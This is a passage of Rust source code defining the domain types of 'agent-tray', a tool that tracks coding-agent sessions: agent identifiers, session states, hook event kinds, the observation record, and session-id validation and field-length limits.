//! The domain vocabulary: what a session is, the states it can be in, and the observations that
//! move it.
//!
//! Every feed (hooks, the agents' own files, the pid watcher, the CLI) speaks in [`Observation`]s,
//! and only the registry turns them into [`Session`] state. Keeping the observation flat (an event
//! name plus optional fields) keeps it cheap to build in the hook, easy to journal, and tolerant of
//! fields a feed does not know: a missing field means "this signal says nothing about it", never
//! "blank it out".
//!
//! The serialised names here are public contracts: `agent-tray list --json` prints [`Session`], the
//! control socket carries [`Observation`], and the UI's types are generated from both.

use std::fmt;
use std::str::FromStr;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// A session's identity, host and id: defined beside the requests that first needed it.
pub use crate::pending::SessionKey;

/// Which coding agent a session belongs to. Fixed at a session's first sighting.
///
/// An exhaustive enum: code that must say something for every agent (the core's catalogue row,
/// its adapter) does it in one `match`, and an agent added here fails to compile until each has
/// its arm. Its string is the `agent` field's value (`"claude"`, `"codex"`, … a public contract).
/// The domain knows only the vocabulary, the ids and the other spellings people type for them;
/// everything known *about* an agent is the core's (its catalogue row and its adapter). Order,
/// the serialised form and the UI's type use the id.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub enum Agent {
    Claude,
    Codex,
    Gemini,
    Qwen,
    Copilot,
    OpenCode,
    Pi,
    Qoder,
    Auggie,
    Droid,
    Crush,
    Cline,
    Kilo,
}

impl Agent {
    /// Every agent, in the order the window and `doctor` list them.
    pub const ALL: &'static [Agent] = &[
        Agent::Claude,
        Agent::Codex,
        Agent::Gemini,
        Agent::Qwen,
        Agent::Copilot,
        Agent::OpenCode,
        Agent::Kilo,
        Agent::Pi,
        Agent::Cline,
        Agent::Droid,
        Agent::Crush,
        Agent::Qoder,
        Agent::Auggie,
    ];

    pub const fn as_str(self) -> &'static str {
        match self {
            Agent::Claude => "claude",
            Agent::Codex => "codex",
            Agent::Gemini => "gemini",
            Agent::Qwen => "qwen",
            Agent::Copilot => "copilot",
            Agent::OpenCode => "opencode",
            Agent::Pi => "pi",
            Agent::Qoder => "qoder",
            Agent::Auggie => "auggie",
            Agent::Droid => "droid",
            Agent::Crush => "crush",
            Agent::Cline => "cline",
            Agent::Kilo => "kilo",
        }
    }

    /// Other spellings `--agent` and the control socket accept ("claude-code").
    pub const fn aliases(self) -> &'static [&'static str] {
        match self {
            Agent::Claude => &["claude-code", "claude_code"],
            Agent::Codex => &[],
            Agent::Gemini => &["gemini-cli", "gemini_cli"],
            Agent::Qwen => &["qwen-code", "qwen_code"],
            Agent::Copilot => &["github-copilot", "copilot-cli"],
            Agent::OpenCode => &["open-code", "opencode-ai"],
            Agent::Pi => &["pi-coding-agent", "pi-agent"],
            Agent::Qoder => &["qodercli", "qoder-cli"],
            Agent::Auggie => &["augment-code", "augmentcode"],
            Agent::Droid => &["factory-droid", "factory_droid"],
            Agent::Crush => &["charm-crush", "charmland-crush"],
            Agent::Cline => &["cline-cli", "cline_cli"],
            Agent::Kilo => &["kilo-code", "kilocode", "kilo_code"],
        }
    }

    /// The agent an id or an alias names, any case.
    pub fn by_name(name: &str) -> Option<Agent> {
        let name = name.to_ascii_lowercase();
        Agent::ALL
            .iter()
            .copied()
            .find(|a| a.as_str() == name || a.aliases().contains(&name.as_str()))
    }
}

impl PartialOrd for Agent {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Agent {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.as_str().cmp(other.as_str())
    }
}

impl fmt::Debug for Agent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Display for Agent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl Serialize for Agent {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(self.as_str())
    }
}

impl<'de> Deserialize<'de> for Agent {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let name = std::borrow::Cow::<'de, str>::deserialize(d)?;
        name.parse().map_err(serde::de::Error::custom)
    }
}

/// The UI's type is the union of the ids (`"claude" | "codex" | …`), so a misspelt id in the UI
/// fails its type check.
impl ts_rs::TS for Agent {
    type WithoutGenerics = Agent;
    type OptionInnerType = Agent;
    fn name() -> String {
        "Agent".into()
    }
    fn inline() -> String {
        Agent::ALL
            .iter()
            .map(|a| format!("\"{}\"", a.as_str()))
            .collect::<Vec<_>>()
            .join(" | ")
    }
    fn inline_flattened() -> String {
        Self::inline()
    }
    fn decl() -> String {
        format!("type Agent = {};", Self::inline())
    }
    fn decl_concrete() -> String {
        Self::decl()
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown agent {0:?} (expected one of: {known})", known = Agent::ALL.iter().map(|a| a.as_str()).collect::<Vec<_>>().join(", "))]
pub struct UnknownAgent(pub String);

impl FromStr for Agent {
    type Err = UnknownAgent;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Agent::by_name(s).ok_or_else(|| UnknownAgent(s.to_string()))
    }
}

/// The six states of `docs/behaviour.md`. The snake_case names are a public contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[derive(ts_rs::TS)]
pub enum SessionState {
    /// SessionStart seen, no prompt yet.
    Starting,
    /// A turn is running.
    Working,
    /// A tool call waits for the user's approval.
    WaitingForPermission,
    /// The agent asked the user a question.
    WaitingForInput,
    /// The turn ended; the agent sits at its prompt.
    Idle,
    /// The session or its process is gone.
    Ended,
}

impl SessionState {
    /// Every state, in the order of `docs/behaviour.md`.
    pub const ALL: [SessionState; 6] = [
        SessionState::Starting,
        SessionState::Working,
        SessionState::WaitingForPermission,
        SessionState::WaitingForInput,
        SessionState::Idle,
        SessionState::Ended,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            SessionState::Starting => "starting",
            SessionState::Working => "working",
            SessionState::WaitingForPermission => "waiting_for_permission",
            SessionState::WaitingForInput => "waiting_for_input",
            SessionState::Idle => "idle",
            SessionState::Ended => "ended",
        }
    }

    /// True for the two states in which the agent cannot go on without the user.
    pub fn needs_you(self) -> bool {
        matches!(
            self,
            SessionState::WaitingForPermission | SessionState::WaitingForInput
        )
    }

    pub fn is_wait(self) -> bool {
        self.needs_you()
    }
}

impl fmt::Display for SessionState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Why a session ended. Tells a clean exit from a death, which the notification policy needs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[derive(ts_rs::TS)]
pub enum EndReason {
    /// The agent said so (SessionEnd hook, or its live-session file removed on a clean exit).
    SessionEnd,
    /// A process the pid watcher had seen alive is gone: killed or crashed.
    ProcessGone,
    /// The pid is alive but belongs to another process now.
    PidRecycled,
    /// The agent's own files say the session is over (Codex lock released, rollout archived).
    FilesSayEnded,
    /// Nothing heard for the whole TTL and no live process vouched for it.
    Ttl,
    /// Evicted at the live-session cap.
    Evicted,
}

impl EndReason {
    /// A clean end is one the agent itself announced; every other end is a disappearance.
    pub fn is_clean(self) -> bool {
        matches!(self, EndReason::SessionEnd)
    }
}

/// Where an observation came from. Decides how much it may do: a passive sighting never revives
/// an ended session, and a streamed session listens only to its stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum Source {
    /// `agent-tray hook`, run by the agent itself.
    #[default]
    Hook,
    /// `agent-tray observe`, a person or a script.
    Cli,
    /// `agent-tray notify` (Codex's notify program).
    Notify,
    /// A wrapper that watches the agent's own output stream.
    Stream,
    /// `~/.claude/sessions/<pid>.json`.
    SessionsFile,
    /// A Claude transcript.
    Transcript,
    /// A Codex rollout (and its writer lock).
    Rollout,
    /// Codex's background app-server (its control socket).
    AppServer,
    /// `agent-tray status-line`, the status-line command an agent runs (Claude Code's
    /// `statusLine`): the context window, its use and the plan's windows, never a state.
    StatusLine,
}

impl Source {
    /// Passive sightings come from files the agent writes as a side effect; they can tell us a
    /// session exists but are not proof that it was (re)started now.
    pub fn is_passive(self) -> bool {
        matches!(
            self,
            Source::Transcript
                | Source::Rollout
                | Source::SessionsFile
                | Source::AppServer
                | Source::StatusLine
        )
    }
}

/// What happened. The hook names are spelled as the agents' hooks spell them (a public contract
/// of `agent-tray observe --event`); the rest are what the file feeds derive.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum EventKind {
    SessionStart,
    UserPromptSubmit,
    PreToolUse,
    PostToolUse,
    PostToolUseFailure,
    PermissionRequest,
    Notification,
    Stop,
    StopFailure,
    Interrupt,
    SubagentStart,
    SubagentStop,
    PreCompact,
    PostCompact,
    SessionEnd,
    /// Claude: an MCP server asks the user to fill a form or open a link (a wait that is not a
    /// permission prompt).
    Elicitation,
    /// Claude: the user answered (or dismissed) an elicitation.
    ElicitationResult,
    /// Claude: auto mode refused a tool call; the turn goes on.
    PermissionDenied,
    /// Claude: a batch of parallel tool calls finished, before the next model request.
    PostToolBatch,
    /// A permission prompt was decided (granted, denied or dismissed): the turn goes on, or
    /// ends with its own event.
    PermissionResult,
    /// Claude: the session's working directory changed (`new_cwd`).
    CwdChanged,
    /// Claude: the model is about to change (`from_model`).
    PreModelSwitch,
    /// Claude: the model changed (`to_model`).
    PostModelSwitch,
    /// Claude: a task of the session's task list was created.
    TaskCreated,
    /// Claude: a task of the session's task list was completed.
    TaskCompleted,
    /// Claude: an agent-team teammate went idle (the lead session goes on).
    TeammateIdle,
    /// Codex `notify`: a turn completed.
    TurnComplete,
    /// A transcript grew (new lines that are not an end-of-turn marker).
    TranscriptActivity,
    /// A transcript end-of-turn marker (`system/turn_duration`) or an interrupt marker.
    TurnEnded,
    /// A live-session file's `status` (see `status` / `waiting_for`).
    StatusReport,
    /// Codex rollout `task_started`.
    TaskStarted,
    /// Codex rollout `task_complete`.
    TaskComplete,
    /// Codex rollout `turn_aborted`.
    TurnAborted,
    /// A session seen to exist (file discovered, rollout scanned); changes no state.
    Sighting,
    /// The agent's files say the session is over (live-session file removed, lock released,
    /// rollout archived).
    Gone,
}

impl EventKind {
    pub const HOOK_EVENTS: [EventKind; 26] = [
        EventKind::SessionStart,
        EventKind::UserPromptSubmit,
        EventKind::PreToolUse,
        EventKind::PostToolUse,
        EventKind::PostToolUseFailure,
        EventKind::PermissionRequest,
        EventKind::Notification,
        EventKind::Stop,
        EventKind::StopFailure,
        EventKind::Interrupt,
        EventKind::SubagentStart,
        EventKind::SubagentStop,
        EventKind::PreCompact,
        EventKind::PostCompact,
        EventKind::SessionEnd,
        EventKind::Elicitation,
        EventKind::ElicitationResult,
        EventKind::PermissionDenied,
        EventKind::PostToolBatch,
        EventKind::PermissionResult,
        EventKind::CwdChanged,
        EventKind::PreModelSwitch,
        EventKind::PostModelSwitch,
        EventKind::TaskCreated,
        EventKind::TaskCompleted,
        EventKind::TeammateIdle,
    ];

    /// Hook events an agent sends that say nothing about a session's state: known (so never
    /// counted as unknown), and dropped by the hook before anything is written or sent.
    pub const IGNORED_HOOK_EVENTS: [&'static str; 9] = [
        "Setup",
        "UserPromptExpansion",
        "ConfigChange",
        "WorktreeCreate",
        "WorktreeRemove",
        "InstructionsLoaded",
        "FileChanged",
        "DirectoryAdded",
        "MessageDisplay",
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            EventKind::SessionStart => "SessionStart",
            EventKind::UserPromptSubmit => "UserPromptSubmit",
            EventKind::PreToolUse => "PreToolUse",
            EventKind::PostToolUse => "PostToolUse",
            EventKind::PostToolUseFailure => "PostToolUseFailure",
            EventKind::PermissionRequest => "PermissionRequest",
            EventKind::Notification => "Notification",
            EventKind::Stop => "Stop",
            EventKind::StopFailure => "StopFailure",
            EventKind::Interrupt => "Interrupt",
            EventKind::SubagentStart => "SubagentStart",
            EventKind::SubagentStop => "SubagentStop",
            EventKind::PreCompact => "PreCompact",
            EventKind::PostCompact => "PostCompact",
            EventKind::SessionEnd => "SessionEnd",
            EventKind::Elicitation => "Elicitation",
            EventKind::ElicitationResult => "ElicitationResult",
            EventKind::PermissionDenied => "PermissionDenied",
            EventKind::PostToolBatch => "PostToolBatch",
            EventKind::PermissionResult => "PermissionResult",
            EventKind::CwdChanged => "CwdChanged",
            EventKind::PreModelSwitch => "PreModelSwitch",
            EventKind::PostModelSwitch => "PostModelSwitch",
            EventKind::TaskCreated => "TaskCreated",
            EventKind::TaskCompleted => "TaskCompleted",
            EventKind::TeammateIdle => "TeammateIdle",
            EventKind::TurnComplete => "TurnComplete",
            EventKind::TranscriptActivity => "TranscriptActivity",
            EventKind::TurnEnded => "TurnEnded",
            EventKind::StatusReport => "StatusReport",
            EventKind::TaskStarted => "TaskStarted",
            EventKind::TaskComplete => "TaskComplete",
            EventKind::TurnAborted => "TurnAborted",
            EventKind::Sighting => "Sighting",
            EventKind::Gone => "Gone",
        }
    }

    /// Tool activity: what a subagent does without changing its parent's state.
    pub fn is_tool_activity(self) -> bool {
        matches!(
            self,
            EventKind::PreToolUse
                | EventKind::PostToolUse
                | EventKind::PostToolUseFailure
                | EventKind::PostToolBatch
                | EventKind::PermissionDenied
        )
    }
}

impl fmt::Display for EventKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown event {0:?}")]
pub struct UnknownEvent(pub String);

impl FromStr for EventKind {
    type Err = UnknownEvent;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        serde_json::from_value(serde_json::Value::String(s.to_string()))
            .map_err(|_| UnknownEvent(s.to_string()))
    }
}

/// A live-session file's `status`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ReportedStatus {
    Busy,
    Idle,
    Waiting,
}

/// One signal about one session, from any feed.
///
/// `at` is when the signal happened (for a hook: when the hook process started), not when it
/// arrived: the registry orders by it, because hooks run in parallel and arrive out of order.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Observation {
    pub session_id: String,
    pub agent: Agent,
    pub event: EventKind,
    #[serde(default)]
    pub source: Source,
    pub at: DateTime<Utc>,
    /// The agent process that owns the session, where the feed could tell.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pid: Option<u32>,
    /// Set when the event fired inside a subagent (Claude's `agent_id`).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub subagent_id: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::path"
    )]
    pub cwd: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub repo: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub branch: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub model: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::path"
    )]
    pub transcript_path: Option<String>,
    /// SessionStart's `source` (startup, resume, clear, compact, fork).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub start_source: Option<String>,
    /// UserPromptSubmit's `source` (user, sdk, system, loop_wakeup, schedule_wakeup, poll_event).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub prompt_source: Option<String>,
    /// Notification's `notification_type`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub notification_type: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub tool_name: Option<String>,
    /// The tool call a tool event belongs to (Claude's `tool_use_id`): it tells a call that
    /// began before the turn ended from one begun after it.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub tool_call_id: Option<String>,
    /// StopFailure's `error` (rate_limit, overloaded, …).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::text"
    )]
    pub error: Option<String>,
    /// A live-session file's status, with StatusReport.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<ReportedStatus>,
    /// A live-session file's `waitingFor` ("permission prompt", "input needed").
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::text"
    )]
    pub waiting_for: Option<String>,
    /// The session's display name (a live-session file's `name`).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::text"
    )]
    pub title: Option<String>,
    /// tmux location `session:@window.%pane`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub tmux: Option<String>,
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub tty: Option<String>,
    /// Client-side sequence id (the hook's), for de-duplicating journal replays.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "bounded::name"
    )]
    pub seq: Option<String>,
    /// Whether the session runs in Codex's background app-server with no terminal attached
    /// (`codex queue`, remote control), where the feed could tell.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub headless: Option<bool>,
    /// Tokens the latest turn held in the context window, where the agent's files say.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub context_tokens: Option<u64>,
    /// The model's context window, where the agent's files say.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub context_window: Option<u64>,
    /// Until when a plan limit stops the session (a window of its plan used up: its reset
    /// time). A report of the plan's windows with none used up says the observation's own time
    /// ("until now": free); `None` says nothing.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub blocked_until: Option<DateTime<Utc>>,
    /// The agent runs a tool call's `PreToolUse` only once its permission request was answered
    /// (Qwen Code asks first): a `PreToolUse` after an ask is then the answer taking effect, never
    /// the ask's own hook arriving late (Claude Code starts both together).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub asks_before_tool_hooks: bool,
}

impl Observation {
    /// A bare observation; feeds fill in the fields they know.
    pub fn new(
        session_id: impl Into<String>,
        agent: Agent,
        event: EventKind,
        at: DateTime<Utc>,
    ) -> Self {
        Observation {
            session_id: session_id.into(),
            agent,
            event,
            source: Source::Hook,
            at,
            pid: None,
            subagent_id: None,
            cwd: None,
            repo: None,
            branch: None,
            model: None,
            transcript_path: None,
            start_source: None,
            prompt_source: None,
            notification_type: None,
            tool_name: None,
            tool_call_id: None,
            error: None,
            status: None,
            waiting_for: None,
            title: None,
            tmux: None,
            tty: None,
            seq: None,
            headless: None,
            context_tokens: None,
            context_window: None,
            blocked_until: None,
            asks_before_tool_hooks: false,
        }
    }

    pub fn with_source(mut self, source: Source) -> Self {
        self.source = source;
        self
    }

    pub fn with_pid(mut self, pid: Option<u32>) -> Self {
        self.pid = pid;
        self
    }

    pub fn with_cwd(mut self, cwd: Option<String>) -> Self {
        self.cwd = cwd;
        self
    }

    /// Checks what the registry needs before it will look at an observation.
    pub fn validate(&self) -> Result<(), InvalidObservation> {
        validate_session_id(&self.session_id)?;
        if self.pid == Some(0) {
            return Err(InvalidObservation::ZeroPid);
        }
        Ok(())
    }

    /// Cuts every text field to its limit (see [`FieldLimit`]), marking each cut with
    /// [`CUT_MARK`]. Returns the names of the fields it cut.
    pub fn bound_fields(&mut self) -> Vec<&'static str> {
        let mut cut = Vec::new();
        let mut bound = |name: &'static str, field: &mut Option<String>, limit: FieldLimit| {
            if let Some(text) = field {
                if cut_to(text, limit.bytes()) {
                    cut.push(name);
                }
            }
        };
        bound("subagent_id", &mut self.subagent_id, FieldLimit::Name);
        bound("cwd", &mut self.cwd, FieldLimit::Path);
        bound("repo", &mut self.repo, FieldLimit::Name);
        bound("branch", &mut self.branch, FieldLimit::Name);
        bound("model", &mut self.model, FieldLimit::Name);
        bound(
            "transcript_path",
            &mut self.transcript_path,
            FieldLimit::Path,
        );
        bound("start_source", &mut self.start_source, FieldLimit::Name);
        bound("prompt_source", &mut self.prompt_source, FieldLimit::Name);
        bound(
            "notification_type",
            &mut self.notification_type,
            FieldLimit::Name,
        );
        bound("tool_name", &mut self.tool_name, FieldLimit::Name);
        bound("error", &mut self.error, FieldLimit::Text);
        bound("waiting_for", &mut self.waiting_for, FieldLimit::Text);
        bound("title", &mut self.title, FieldLimit::Text);
        bound("tmux", &mut self.tmux, FieldLimit::Name);
        bound("tty", &mut self.tty, FieldLimit::Name);
        bound("seq", &mut self.seq, FieldLimit::Name);
        cut
    }

    /// The one gate every observation passes on its way into the registry, whatever fed it
    /// (socket, hook journal, agent files): a valid session id, and no field over its limit.
    pub fn admit(mut self) -> Result<Observation, InvalidObservation> {
        self.validate()?;
        self.bound_fields();
        Ok(self)
    }
}

/// Every `doctor` probe's session id starts with this; no agent makes such an id (theirs are
/// UUIDs). A domain fact rather than the delivery ledger's: the registry, the hook and the socket
/// each keep probes out of the sessions people see.
pub const PROBE_PREFIX: &str = "agent-tray-probe-";

/// Whether a session id is a `doctor` probe's.
pub fn is_probe_id(session_id: &str) -> bool {
    session_id.starts_with(PROBE_PREFIX)
}

/// The longest session id accepted, in bytes. The agents' ids are UUIDs (36 bytes).
pub const MAX_SESSION_ID_LEN: usize = 128;

/// True for the bytes a session id may hold: ASCII letters, digits, `-`, `_` and `.`.
fn session_id_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')
}

/// Session ids reach the registry from hooks, the socket and file names, and end up in file
/// paths and in "Copy resume" command lines. So one rule, checked where every observation enters:
/// 1 to [`MAX_SESSION_ID_LEN`] bytes of ASCII letters, digits, `-`, `_` and `.`, beginning with a
/// letter or a digit (so never an option like `-x`, nor `.` or `..`).
pub fn validate_session_id(id: &str) -> Result<(), InvalidObservation> {
    if id.trim().is_empty() {
        return Err(InvalidObservation::EmptySessionId);
    }
    if id.len() > MAX_SESSION_ID_LEN {
        return Err(InvalidObservation::SessionIdTooLong { len: id.len() });
    }
    let bytes = id.as_bytes();
    if !bytes[0].is_ascii_alphanumeric() || !bytes.iter().all(|b| session_id_byte(*b)) {
        return Err(InvalidObservation::SessionIdCharset {
            shown: id.escape_default().to_string(),
        });
    }
    Ok(())
}

/// What a cut field ends with, so a reader knows the text is not whole.
pub const CUT_MARK: &str = "…[cut]";

/// The per-field limits of an [`Observation`], in bytes, [`CUT_MARK`] included. Longer text is
/// cut at a character boundary and marked, never stored whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FieldLimit {
    /// `cwd`, `transcript_path`: a path (PATH_MAX is 4096).
    Path,
    /// `title`, `error`, `waiting_for`: a line of prose.
    Text,
    /// Everything else (`repo`, `branch`, `model`, `tool_name`, `tmux`, `tty`, ids, …).
    Name,
}

impl FieldLimit {
    pub const fn bytes(self) -> usize {
        match self {
            FieldLimit::Path => 4096,
            FieldLimit::Text => 1024,
            FieldLimit::Name => 256,
        }
    }
}

/// Cuts `text` to at most `limit` bytes, ending with [`CUT_MARK`], at a character boundary.
/// Returns whether it cut.
pub fn cut_to(text: &mut String, limit: usize) -> bool {
    if text.len() <= limit {
        return false;
    }
    let mut end = limit.saturating_sub(CUT_MARK.len());
    while end > 0 && !text.is_char_boundary(end) {
        end -= 1;
    }
    text.truncate(end);
    text.push_str(CUT_MARK);
    text.shrink_to_fit();
    true
}

/// Field limits applied while an observation is parsed: a 1 MiB `cwd` in a request or a journal
/// line is never copied whole into a `String`, only its first [`FieldLimit`] bytes are.
pub mod bounded {
    use std::fmt;

    use serde::de::{Deserializer, Visitor};

    use super::{cut_to, FieldLimit};

    struct Bounded(FieldLimit);

    impl Visitor<'_> for Bounded {
        type Value = String;

        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a string")
        }

        fn visit_str<E: serde::de::Error>(self, text: &str) -> Result<String, E> {
            let limit = self.0.bytes();
            if text.len() <= limit {
                return Ok(text.to_string());
            }
            // Copy a little more than the limit (a char boundary is within 4 bytes), then cut.
            let mut end = limit.saturating_add(4).min(text.len());
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            let mut kept = String::with_capacity(end);
            kept.push_str(&text[..end]);
            // `kept` is over the limit (`end` > limit), so this cuts and marks it exactly as a
            // cut of the whole text would.
            cut_to(&mut kept, limit);
            Ok(kept)
        }

        fn visit_string<E: serde::de::Error>(self, mut text: String) -> Result<String, E> {
            cut_to(&mut text, self.0.bytes());
            Ok(text)
        }
    }

    struct Optional(FieldLimit);

    impl<'de> Visitor<'de> for Optional {
        type Value = Option<String>;

        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a string or null")
        }

        fn visit_none<E: serde::de::Error>(self) -> Result<Option<String>, E> {
            Ok(None)
        }

        fn visit_unit<E: serde::de::Error>(self) -> Result<Option<String>, E> {
            Ok(None)
        }

        fn visit_some<D: Deserializer<'de>>(self, d: D) -> Result<Option<String>, D::Error> {
            d.deserialize_string(Bounded(self.0)).map(Some)
        }
    }

    fn optional<'de, D: Deserializer<'de>>(
        d: D,
        limit: FieldLimit,
    ) -> Result<Option<String>, D::Error> {
        d.deserialize_option(Optional(limit))
    }

    pub fn path<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
        optional(d, FieldLimit::Path)
    }

    pub fn text<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
        optional(d, FieldLimit::Text)
    }

    pub fn name<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
        optional(d, FieldLimit::Name)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InvalidObservation {
    #[error("session_id is empty")]
    EmptySessionId,
    #[error("session_id is {len} bytes long; at most {MAX_SESSION_ID_LEN} are allowed")]
    SessionIdTooLong { len: usize },
    #[error("session_id \"{shown}\" is refused: a session id is ASCII letters, digits, '-', '_' and '.', beginning with a letter or a digit")]
    SessionIdCharset { shown: String },
    #[error("pid 0 is not a process")]
    ZeroPid,
}

/// A session as people and scripts see it. `agent-tray list --json` prints these; the field names
/// are a public contract (see README).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct Session {
    pub session_id: String,
    pub agent: Agent,
    pub state: SessionState,
    pub cwd: Option<String>,
    /// The git toplevel's folder name, where known.
    pub repo: Option<String>,
    pub branch: Option<String>,
    pub model: Option<String>,
    pub transcript_path: Option<String>,
    pub pid: Option<u32>,
    /// The process identity token the pid watcher captured (opaque).
    pub pid_start: Option<String>,
    /// A UserPromptSubmit (or equivalent) was seen.
    pub prompted: bool,
    /// A stream wrapper reports this session; its state is authoritative.
    pub streamed: bool,
    pub started_at: DateTime<Utc>,
    pub last_seen: DateTime<Utc>,
    pub state_since: DateTime<Utc>,
    /// The last event applied, as the agents spell it.
    pub last_event: Option<String>,
    pub last_tool: Option<String>,
    /// The API error of a failed turn (StopFailure).
    pub error: Option<String>,
    /// What a wait is for, where known ("permission prompt", the tool's name).
    pub waiting_for: Option<String>,
    pub end_reason: Option<EndReason>,
    pub title: Option<String>,
    pub tmux: Option<String>,
    pub tty: Option<String>,
    /// Subagents running under this session now.
    pub subagents: u32,
    /// When the current turn began (the last transition into `working` from a non-working state).
    pub turn_started_at: Option<DateTime<Utc>>,
    /// The remote this session runs on (its name from `agent-tray remote add`); `null` for a
    /// session of this machine. Text from configuration: shown as text, never markup.
    #[serde(default)]
    pub host: Option<String>,
    /// Set while the remote's link is down: since when nothing could be heard from it. The state
    /// is the last one the remote reported; the session is neither ended nor alerted about.
    #[serde(default)]
    pub unreachable_since: Option<DateTime<Utc>>,
    /// Run by Codex's background app-server with no terminal attached (`codex queue`, remote
    /// control): live, but with no process of its own to watch or focus.
    #[serde(default)]
    pub headless: bool,
    /// Who submitted the latest prompt, where the agent says (Claude's `UserPromptSubmit.source`:
    /// `user`, `sdk`, `system`, `loop_wakeup`, `schedule_wakeup`, `poll_event`); absent when it
    /// did not. A wake-up no person typed ends no "waiting on you" (see `store::waiting`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(skip)]
    pub prompt_source: Option<String>,
    /// The permission requests the agent waits on that can be answered from here (see
    /// [`crate::pending`]), oldest first; empty when none. Kept by the engine's book, never by
    /// the transition rules.
    #[serde(default)]
    pub pending: Vec<crate::pending::PendingView>,
    /// Tokens the last turn held in the model's context window, as the agent wrote them (Claude's
    /// last main-thread `usage`: input, cache reads and writes, output; Codex's `token_count`
    /// `last_token_usage`); `null` where the agent does not tell.
    #[serde(default)]
    #[ts(type = "number | null")]
    pub context_tokens: Option<u64>,
    /// The model's context window in tokens, only where the agent itself says it (Codex's
    /// `model_context_window`); `null` otherwise: never guessed from a model's name.
    #[serde(default)]
    #[ts(type = "number | null")]
    pub context_window: Option<u64>,
    /// When the agent last compacted the conversation (Claude's and Codex's `PreCompact` and
    /// `PostCompact`, a `compact` SessionStart); `null` when none was seen.
    #[serde(default)]
    pub compacted_at: Option<DateTime<Utc>>,
    /// Until when a used-up plan window stops the session (the window's reset time), as the
    /// agent reported it (Claude's status line: a window at 100 %); `null` when nothing stops
    /// it or nothing was said. Past that time it no longer holds.
    #[serde(default)]
    pub blocked_until: Option<DateTime<Utc>>,
